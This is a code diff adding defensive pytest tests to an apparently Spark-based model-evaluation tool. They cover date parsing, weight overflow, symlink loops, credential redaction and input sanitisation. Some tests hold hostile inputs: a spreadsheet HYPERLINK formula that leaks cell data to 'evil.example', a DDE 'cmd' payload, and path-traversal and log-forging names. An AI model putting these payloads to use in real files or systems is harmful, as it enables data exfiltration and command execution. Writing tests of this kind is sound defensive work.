@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import os
 import re
+import time
 from pathlib import Path
 
 import numpy as np
@@ -321,7 +322,7 @@ def test_null_model_or_run_is_an_invalid_row_in_both_modes(spark, demo_config, t
     df["model"] = np.where(df.index == 3, None, df["model"])
     df["run"] = np.where(df.index == 5, None, df["run"].astype(str))
     _write(df, tmp_path / "eval")
-    with pytest.raises(InputError, match=r"2 rows: null in the model or run column"):
+    with pytest.raises(InputError, match=r"2 rows: null \(or NaN\) in the model or run column"):
         evaluate(spark, demo_config(), DS, write=False)
     result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
     m = result.metrics
@@ -1140,3 +1141,300 @@ def test_a_date_column_in_nanoseconds_reads_with_nanos_as_long_and_epoch_ns(spar
     assert guess_ds_formats(["1795219200000000", "1795305599999999"]) == ["epoch_us"]
     assert input_day("epoch_ns", "1970-01-02") == "86400000000000"
     assert input_day("epoch_us", "1970-01-02") == "86400000000"
+
+
+# ---- the second battery (issue 55) ---------------------------------------------------------------------------
+
+def _written(out: Path) -> list[str]:
+    """What a run left under its output folder, lease and commit records aside."""
+    return sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and "_commits" not in p.parts
+                  and not p.name.startswith(".")) if out.exists() else []
+
+
+def test_dates_that_are_no_yyyy_mm_dd_day_are_rows_of_no_day(spark, demo_config, tmp_path, caplog):
+    """'', ' 2026-11-21', '21.11.2026' and '2026-11-32' among ISO days were in no day and no count: exit 0,
+    n_invalid 0, no word. They are rows without a date now, counted and reported as a null date is; a time after
+    the day still reads as that day."""
+    from ctcalc_spark.jobs.evaluate import NO_DATE
+
+    df = _rows()
+    df["ds"] = df["ds"].astype(object)
+    for i, text in enumerate(["", f" {DS}", "21.11.2026", "2026-11-32", "２０２６-11-21", "x"]):  # full-width digits
+        df.loc[i, "ds"] = text
+    df.loc[10, "ds"], df.loc[11, "ds"] = f"{DS}T23:30:00-08:00", f"{DS} 13:45"
+    (tmp_path / "eval").mkdir()
+    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
+    with caplog.at_level("WARNING", logger="ctcalc_spark"):
+        result = evaluate(spark, demo_config(), DS, write=False)
+    assert result.metrics.loc[0, "n_rows"] == N - 6
+    assert result.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
+    assert "6 evaluation rows (ds=none) are in no metrics row: null date, or a date not written YYYY-MM-DD" \
+        in caplog.text
+    # a range job (its summaries written from Spark's aggregate, the rows left out observed on the way)
+    df.loc[20:, "ds"] = np.where(df.index[20:] % 2 == 0, DS, "2026-11-20")
+    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
+    ranged = evaluate(spark, demo_config(), f"2026-11-20..{DS}")
+    assert ranged.days == ["2026-11-20", DS] and int(ranged.metrics["n_rows"].sum()) == N - 6
+    assert ranged.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
+
+
+def test_a_nan_run_or_model_is_an_invalid_row_as_a_null_is(spark, demo_config, tmp_path):
+    """A NaN in a float run column was a run of its own ('NaN', 3 rows, counted by compare)."""
+    df = _binary_rows(n=N, models=("a",), runs=(0, 1))
+    df["run"] = df["run"].astype(float)
+    df.loc[:2, "run"] = np.nan
+    _write(df, tmp_path / "eval")
+    with pytest.raises(InputError, match=r"3 rows: null \(or NaN\) in the model or run column"):
+        evaluate(spark, demo_config(), DS)
+    assert not (tmp_path / "out").exists()
+    result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
+    assert result.metrics[["run", "n_rows"]].to_dict("records") == [{"run": "0.0", "n_rows": N - 3},
+                                                                      {"run": "1.0", "n_rows": N}]
+    assert result.uncounted.to_dict("records") == [{"ds": DS, "reason": INVALID_REASONS[9], "n_rows": 3}]
+
+
+def test_a_slice_value_written_like_the_null_slice_stays_a_slice_of_its_own(spark, demo_config, tmp_path):
+    """A slice value that is the text '__null__' merged with the null values into one slice. It gets a backslash
+    in front ('\\__null__'), and a value that is already so one more: no two values share a slice."""
+    df = _rows()
+    df["country"] = np.array([None, NULL_SLICE, "\\" + NULL_SLICE, "DE"], dtype=object)[df.index % 4]
+    _write(df, tmp_path / "eval")
+    m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
+    assert m.set_index("slice_value")["n_rows"].to_dict() == {
+        "__all__": N, "DE": N // 4, NULL_SLICE: N // 4, "\\" + NULL_SLICE: N // 4, "\\\\" + NULL_SLICE: N // 4}
+
+
+@pytest.mark.parametrize(("weights", "message"), [
+    # two weights of 1e308 in different summary groups: pandas' compensated group sum gave NaN, the check passed
+    # it and the run ended in "AssertionError ... a bug" (exit 70)
+    ({0: 1e308, 1: 1e308}, r"too large to sum: .* total weight inf, at most 1e\+150 is allowed"),
+    # weights of 1e-300 or subnormal ones: the AUC's product of two weight sums was 0/0, an AssertionError too
+    ({"all": 1e-300}, r"too small to multiply: e.g. ds='2026-11-21', model='a', run='0' has a total weight of 4e-298"),
+    ({"all": 5e-324}, r"too small to multiply: .* total weight of 1\.98e-321, and at least 1e-150 is needed"),
+])
+def test_weights_too_large_or_too_small_for_their_sums_are_one_clear_error(spark, demo_config, tmp_path, weights,
+                                                                          message):
+    df = _rows().assign(weight=1.0)
+    for row, w in weights.items():
+        if row == "all":
+            df["weight"] = w
+        else:
+            df.loc[row, ["weight", "label", "logit"]] = [w, 1, -3.0 + 6.0 * row]  # far apart: two summary groups
+    _write(df, tmp_path / "eval")
+    with pytest.raises(InputError, match=message + r".* rescale the weights \(e\.g\. divide by their maximum\)"):
+        evaluate(spark, demo_config(columns={"weight": "weight"}), DS)
+    assert _written(tmp_path / "out") == []
+
+
+@pytest.mark.parametrize("name", ["../../../x", "a/b", "-x", ".hidden", "..", "x" * 81])
+def test_compare_pipelines_names_that_would_leave_the_workdir_are_refused(tmp_path, name):
+    """Airflow's compare_pipelines checked its path params against CTCALC_COMPARE_ROOT, and took the pipeline
+    names as they were: '../../../x' wrote the model files outside the root."""
+    from ctcalc_spark.orchestration.tasks import compare_plan
+
+    params = {"pipeline_a": "deepfm_bn.v2", "spec_a": {}, "pipeline_b": "b", "spec_b": {}, "runs": 1,
+              "ds": DS, "config": str(tmp_path / "c.yaml"), "train_path": str(tmp_path / "t.parquet"),
+              "features_path": str(tmp_path / "f.parquet"), "workdir": str(tmp_path / "work")}
+    plan = compare_plan(params, str(tmp_path), allowed_root=str(tmp_path))
+    assert [Path(j["model_path"]).parent.parent for j in plan["train_jobs"]] == [tmp_path / "work" / "models"] * 2
+    with pytest.raises(ConfigError, match=r"^The param pipeline_b names the folders of its models and report under "
+                                          r"workdir, so it must be letters, digits, '_', '-' and '\.' \(not first\), "
+                                          r"at most 80 of them; got .*\. Give the pipeline a plain name, e\.g\. '"):
+        compare_plan({**params, "pipeline_b": name}, str(tmp_path), allowed_root=str(tmp_path))
+
+
+def test_passwords_in_jdbc_urls_without_a_scheme_slash_slash_are_hidden():
+    """A metastore's JDBC URL in spark.conf went verbatim into the drift report's JSON (redact knew scheme:// URLs
+    only)."""
+    from ctcalc_spark.config import config_to_dict
+    from ctcalc_spark.redact import redact, url_secrets
+
+    derby = "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=hunter2"
+    oracle = "jdbc:oracle:thin:scott/tiger7@//db.example:1521/hive"
+    cfg = config_from_dict({"input": {"path": "s3a://AKIAX:s3cr3t@bucket/eval"},
+                            "spark": {"conf": {"spark.hadoop.javax.jdo.option.ConnectionURL": derby,
+                                               "spark.hadoop.hive.metastore.url": oracle}}})
+    shown = repr(redact(config_to_dict(cfg)))
+    for secret in ("hunter2", "tiger7", "s3cr3t", "AKIAX"):
+        assert secret not in shown
+    assert "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=***" in shown
+    assert "jdbc:oracle:thin:***@//db.example:1521/hive" in shown and "s3a://***@bucket/eval" in shown
+    assert url_secrets(oracle) == ["scott/tiger7"] and url_secrets(derby) == ["hunter2"]
+
+
+def test_a_path_with_credentials_is_never_echoed_on_stdout_or_stderr(spark, tmp_path, capsys, restore_ctcalc_logger):
+    """An s3a://KEY:SECRET@bucket input path was echoed on stderr by the missing-file-system message. Every line
+    a command writes now goes through the redaction (its own messages, log lines, results)."""
+    from ctcalc_spark.cli.main import main
+
+    config = tmp_path / "c.yaml"
+    config.write_text(f"output: {{path: {tmp_path / 'out'}}}\nsplit: {{salt: t}}\n")
+    code = main(["evaluate", "--config", str(config), "--ds", DS, "--set", "input.path=s3a://AKIAX:s3cr3t@bucket/eval"])
+    out, err = capsys.readouterr()
+    assert code == 3 and "s3cr3t" not in out + err and "AKIAX" not in out + err
+    assert "so it cannot open 's3a://***@bucket/eval'" in err
+    assert not (tmp_path / "out").exists()
+
+
+def test_report_csv_cells_that_start_like_a_formula_are_text(tmp_path):
+    """Model names beginning with '=', '+', '-' or '@' went into the CSV reports as they were: a spreadsheet
+    opening the file ran them as formulas."""
+    import csv
+
+    from ctcalc_spark.reports.drift import ReportInput, build_report, write_report_files
+    from tests._drift_data import binary_drift_summaries, day_range
+
+    evil = {"ctr_a": '=HYPERLINK("http://evil.example/?"&A1,"open")', "ctr_b": "@SUM(1+1)"}
+    days = day_range("2026-01-05", 21)
+    rows = binary_drift_summaries(days, jumps={}, n=200)
+    rows["model"] = rows["model"].map(lambda m: evil.get(m, m))
+    cfg = config_from_dict({"input": {"path": "unused"}, "output": {"path": "unused"},
+                            "histogram": {"bin_width": 0.1}, "rolling": {"window": "week"}})
+    report = build_report(ReportInput(rows, pd.DataFrame(), days[0], days[-1], "synthetic"), cfg, days[7], days[-1])
+    write_report_files(report, cfg, tmp_path)
+    (table,) = tmp_path.glob("drift_*_week.csv")
+    cells = [cell for row in csv.reader(table.open()) for cell in row]
+    models = {c for c in cells if "HYPERLINK" in c or "SUM(" in c}
+    assert models == {"'" + v for v in evil.values()}
+    assert not [c for c in cells if c[:1] in ("=", "@", "+")]  # negative numbers stay numbers
+
+
+def test_a_stream_file_of_other_column_types_is_quarantined_as_such(spark, demo_config, tmp_path):
+    """A landed Parquet file whose logit column is text was quarantined as 'corrupt or truncated data'; the
+    reason now names the column and both types, and the stream goes on with the other files."""
+    from tests.test_stream import _move_files, _stream_config
+    from ctcalc_spark.jobs.stream import run_stream, write_stream_demo_files
+
+    gen, src = tmp_path / "gen", tmp_path / "src"
+    write_stream_demo_files(str(gen), n_examples_per_day=200, n_runs=1, n_days=1, files_per_day=2)
+    good = sorted(gen.glob("*.parquet"))
+    texts = pq.read_table(good[1]).to_pandas()
+    wrong = tmp_path / "part-x-text.parquet"
+    texts.assign(logit=texts["logit"].map(repr)).to_parquet(wrong, index=False)
+    _move_files([good[0], wrong], src, time.time() - 600)
+    result = run_stream(spark, _stream_config(demo_config, src), trigger="availableNow")
+    quarantined = [q for b in result.batches for q in b["quarantined"]]
+    assert [Path(q["file"]).name for q in quarantined] == ["part-x-text.parquet"]
+    assert quarantined[0]["reason"] == (f"Spark read 0 of the {len(texts)} rows its footer lists (its column 'logit' "
+                                        "is string where the stream reads double: a file written with other types)")
+
+
+@pytest.mark.parametrize("target", ["day", "root"])
+def test_a_folder_that_links_back_into_the_input_is_refused_before_the_scan(spark, demo_config, tmp_path, target):
+    """A symbolic link in a ds= folder to that folder: Spark followed it 40 times deep and counted the day's 400
+    rows as 16,400, exit 0; a link to the table's own folder ended in CONFLICTING_PARTITION_COLUMN_NAMES with no
+    detail. A link to a folder outside the table is read as before."""
+    _write(_rows(), tmp_path / "eval")
+    day = tmp_path / "eval" / f"ds={DS}"
+    (day / "loop").symlink_to(day if target == "day" else tmp_path / "eval")
+    with pytest.raises(InputError, match=rf"^The evaluation table '.*/eval' holds a folder that links back into it: "
+                                         rf"ds={DS}/loop -> .*/eval(/ds={DS})?\. Spark follows the link and reads the "
+                                         r"files under it again .* Remove the link, or point it at a folder outside"):
+        evaluate(spark, demo_config(), DS)
+    assert _written(tmp_path / "out") == []
+    (day / "loop").unlink()
+    _write(_rows(ds="2026-11-22"), tmp_path / "elsewhere")  # a day's folder on another disk, linked in
+    (tmp_path / "eval" / "ds=2026-11-22").symlink_to(tmp_path / "elsewhere" / "ds=2026-11-22")
+    assert list(evaluate(spark, demo_config(), "2026-11-22", write=False).metrics["n_rows"]) == [N]
+
+
+def test_an_empty_range_with_allow_missing_days_does_not_advise_allow_missing_days(spark, demo_config, tmp_path):
+    _write(_rows(), tmp_path / "eval")
+    with pytest.raises(InputError) as err:
+        evaluate(spark, demo_config(), "2026-10-01..2026-10-05", allow_missing_days=True)
+    assert "or pass --allow-missing-days" not in str(err.value)
+    assert "(--allow-missing-days skips days without rows, and needs one day with rows)" in str(err.value)
+    assert _written(tmp_path / "out") == []
+
+
+def test_an_example_row_with_a_null_model_shows_null(spark, demo_config, tmp_path):
+    """The error's example row showed a null model as model=np.float64(nan)."""
+    df = _rows()
+    df["model"] = np.where(df.index < 3, None, df["model"])
+    _write(df, tmp_path / "eval")
+    with pytest.raises(InputError, match=rf"\(e\.g\. ds={DS}, model=null, run='0'\)"):
+        evaluate(spark, demo_config(), DS, write=False)
+
+
+@pytest.mark.parametrize(("spec", "message"), [
+    ("2026-11-20..2026-13-01", "got '2026-13-01', in --ds '2026-11-20..2026-13-01'."),
+    ("2026-11-19,20261121", "got '20261121' (write it 2026-11-21), in --ds '2026-11-19,20261121'."),
+    ("2026-11-32", "--ds must be a date like 2026-11-21, got '2026-11-32'."),
+])
+def test_ds_errors_quote_the_whole_value(spec, message):
+    from ctcalc_spark.jobs.evaluate import parse_days
+
+    with pytest.raises(ConfigError) as err:
+        parse_days(spec)
+    assert str(err.value).endswith(message)
+
+
+def test_the_days_a_long_range_skips_are_a_set():
+    """A 300-year --ds range with --allow-missing-days spent 180 s in two list comprehensions that looked every
+    day up in the list of missing days (109,573 x 109,572 comparisons)."""
+    from ctcalc_spark.jobs.evaluate import _check_days, parse_days
+
+    days = parse_days("1800-01-01..2099-12-31")
+    missing = _check_days(days, [DS], config_from_dict({"input": {"path": "x"}}), True)
+    assert isinstance(missing, (set, frozenset)) and len(missing) == len(days) - 1
+    assert [d for d in days if d not in missing] == [DS]
+
+
+def test_names_with_control_characters_path_parts_or_formulas_are_kept_and_shown_on_one_line(
+        spark, tmp_path, capsys, restore_ctcalc_logger):
+    """Model names are data: a newline, a NUL, '../..' or '=cmd' in one is kept as written in the tables (no two
+    names merge), a printed line shows its control characters escaped (a name could forge a line of its own), a
+    compare report's folder stays under the output (pathsafe), a CSV report's cell is text."""
+    from ctcalc_spark.cli.main import main
+
+    names = ["m\nctcalc evaluate: done", "m\x00x", "../../etc", "=cmd|' /C calc'!A0"]
+    df = pd.concat([_rows().assign(model=name, split="remain") for name in names], ignore_index=True)
+    _write(df, tmp_path / "eval")
+    config = tmp_path / "c.yaml"
+    config.write_text(f"input: {{path: {tmp_path / 'eval'}}}\noutput: {{path: {tmp_path / 'out'}}}\n"
+                      "columns: {split: split}\n")
+    assert main(["-q", "evaluate", "--config", str(config), "--ds", DS]) == 0
+    out = capsys.readouterr().out
+    assert "model=m\\nctcalc evaluate: done run=0" in out and "model=m\\x00x run=0" in out
+    assert not [line for line in out.splitlines() if line.startswith("ctcalc evaluate: done")]
+    from ctcalc_spark.spark.storage import OutputStore
+
+    stored = OutputStore(config_from_dict(yaml.safe_load(config.read_text())), spark).read("metrics", days=[DS])
+    assert sorted(stored["model"]) == sorted(names) and (stored["status"] == "no_bias_rows").all()
+
+
+def test_columns_of_other_types_read_as_their_numbers(spark, demo_config, tmp_path):
+    """A boolean run column, a decimal label and an integer weight: the same metrics as the plain types (the run
+    named 'true'); text numbers with spaces around them are numbers, '1e999' is an infinite score and full-width
+    digits are text that is not a number, each counted under its reason."""
+    import decimal
+
+    plain = _rows().assign(weight=2.0)
+    _write(plain, tmp_path / "plain")
+    other = pa.Table.from_pandas(plain.drop(columns="ds").assign(
+        run=True, weight=2, label=[decimal.Decimal(int(v)) for v in plain["label"]]), preserve_index=False)
+    (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
+    pq.write_table(other, tmp_path / "eval" / f"ds={DS}" / "f.parquet")
+    cols = ["n_rows", "log_loss", "calibrated_log_loss", "auc"]
+    want = evaluate(spark, demo_config(input__path=str(tmp_path / "plain"), columns={"weight": "weight"}), DS,
+                    write=False).metrics
+    got = evaluate(spark, demo_config(columns={"weight": "weight"}), DS, write=False).metrics
+    assert list(got["run"]) == ["true"]
+    pd.testing.assert_frame_equal(got[cols], want[cols])
+    texts = _rows().assign(logit=lambda f: f["logit"].map(repr))
+    texts.loc[0, "logit"], texts.loc[1, "logit"], texts.loc[2, "logit"] = " 0.5 ", "1e999", "１２"
+    _write(texts, tmp_path / "texts")
+    result = evaluate(spark, demo_config(input__path=str(tmp_path / "texts"), on_invalid="drop"), DS, write=False)
+    assert result.metrics.loc[0, ["n_rows", "n_invalid"]].tolist() == [N - 2, 2]
+    with pytest.raises(InputError, match=r"1 rows: NaN or infinite logit/prediction; 1 rows: text that is not a "
+                                         r"number .* The score column 'logit' holds text such as '１２'\."):
+        evaluate(spark, demo_config(input__path=str(tmp_path / "texts")), DS, write=False)
+
+
+def test_a_range_of_thousands_of_years_is_refused_before_spark_starts():
+    from ctcalc_spark.jobs.evaluate import MAX_RANGE_DAYS, parse_days
+
+    with pytest.raises(ConfigError, match=r"^The range 0001-01-01\.\.9999-12-31 has 3,652,059 days; a run takes at "
+                                          r"most 146,097 \(400 years\)"):
+        parse_days("0001-01-01..9999-12-31")
+    assert len(parse_days("1700-01-01..2099-12-31")) == MAX_RANGE_DAYS
